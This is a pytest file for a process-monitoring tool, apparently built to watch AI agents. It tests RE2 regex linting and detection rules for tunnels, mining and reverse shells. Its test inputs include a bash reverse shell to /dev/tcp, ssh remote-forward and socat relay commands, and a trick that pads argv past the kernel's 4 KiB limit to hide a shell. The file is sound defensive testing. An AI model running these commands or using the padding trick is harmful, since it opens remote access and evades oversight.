"""cmdline/args regexes run in a linear-time engine (RE2): lint refuses what it cannot hold, the
pack's patterns keep their meaning, and an argv the kernel cut short is reported."""
from __future__ import annotations

import subprocess
import textwrap

import orjson
import pytest

from conftest import AGENTTRACE
from agenttrace.match.engine import Engine
from agenttrace.session.event import Event
from agenttrace.match.rules import default_rule_paths, lint, load_rules
import os

# unique per test run: `run -- CMD` locks its agent name, and another checkout's suite may run
# this same test at the same time
_AGENT_PADDED = f"padded-{os.getpid()}"

RULE = """\
rules:
  - id: r1
    description: a rule written for a unit test of regexes
    category: exec
    severity: low
    on: [exec]
    match:
      exe:
        cmdline_regex: [{pat}]
"""


def _write(tmp_path, pat):
    p = tmp_path / "r.yaml"
    p.write_text(RULE.format(pat=pat))
    return p


@pytest.mark.parametrize("pat,why", [
    ("'(?<=-o )RemoteForward'", "lookbehind"),
    ("'(?=.*-R)ssh'", "lookahead"),
    ("'(a+)\\1'", "backreference"),
])
def test_lint_rejects_what_re2_cannot_compile(tmp_path, pat, why):
    p = _write(tmp_path, pat)
    errs = lint([p])
    assert len(errs) == 1, why
    e = errs[0]
    assert e.line == 9 and e.field.endswith("cmdline_regex[0]") and "RE2" in e.message
    r = subprocess.run([AGENTTRACE, "rules", "lint", str(p)], capture_output=True, text=True)
    assert r.returncode == 2 and f"{p}:9:" in r.stderr and "RE2" in r.stderr


def test_invalid_regex_is_still_named_as_such(tmp_path):
    errs = lint([_write(tmp_path, "'(unclosed'")])
    assert errs and "not a valid regex" in errs[0].message


def _fire(rs, args, exe=None, **proc):
    eng = Engine(rs)
    exe = exe or "/usr/bin/" + args[0]
    rec = {"kind": "exec", "agent": {"id": "a"},
           "proc": {"pid": 7, "exe": exe, "comm": args[0][:15], "args": args, **proc}}
    return [a.record["rule"]["id"] for a in eng.process(Event("exec", 1, rec, 7, 1))]


def test_pack_patterns_keep_their_meaning_under_re2():
    rs = load_rules(default_rule_paths())
    assert "tunnel-ssh-forwarding" in _fire(rs, ["ssh", "-NR", "9000:localhost:22", "h"])
    assert "tunnel-ssh-forwarding" in _fire(rs, ["ssh", "-o", "remoteforward=9000 x:22", "h"])
    assert "tunnel-socat-relay" in _fire(rs, ["socat", "TCP-LISTEN:80", "TCP:10.0.0.1:80"])
    assert "tunnel-socat-relay" not in _fire(rs, ["socat", "-", "UNIX-CONNECT:/run/x.sock"])
    assert "mining-stratum-args" in _fire(rs, ["worker", "-o", "STRATUM+TCP://pool:3333"])
    assert "exec-reverse-shell" in _fire(rs, ["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"])
    # the crafted argv that took Python's backtracking engine tens of ms: still just no match
    assert _fire(rs, ["socat", "tcp:" * 1020]) == []


def test_truncated_argv_of_a_regex_checked_tool_is_reported():
    rs = load_rules(default_rule_paths())
    assert "exec-args-truncated" in _fire(rs, ["sh", "-c", "x" * 4090], args_truncated=True)
    assert "exec-args-truncated" not in _fire(rs, ["sh", "-c", "true"])
    # compilers and linkers run with long argv all day: not these rules' business
    assert "exec-args-truncated" not in _fire(rs, ["ld", "-o", "x"] + ["a.o"] * 900, args_truncated=True)


def test_cli_padded_shell_command_line_alerts_truncation(tmp_path, require_bpf):
    """The kernel keeps 4 KiB of argv; the reverse shell sits after 5000 bytes of padding."""
    out = tmp_path / "events.jsonl"
    hidden = ": " + "#" * 5000 + "; echo /dev/tcp/198.51.100.1/4444"
    r = subprocess.run([AGENTTRACE, "run", "--no-net", "--output", str(out), "--agent", _AGENT_PADDED, "--",
                        "sh", "-c", hidden], capture_output=True, timeout=120)
    assert r.returncode == 0, r.stderr
    recs = [orjson.loads(l) for l in out.read_bytes().splitlines()]
    ex = [x for x in recs if x["kind"] == "exec" and x["proc"]["args"][:1] == ["sh"]]
    assert ex and ex[0]["proc"]["args_truncated"] is True
    al = [x for x in recs if x["kind"] == "alert" and x["rule"]["id"] == "exec-args-truncated"]
    assert al and al[0]["proc"]["pid"] == ex[0]["proc"]["pid"] and al[0]["agent"]["id"] == _AGENT_PADDED
    assert al[0]["rule"]["category"] == "exec"
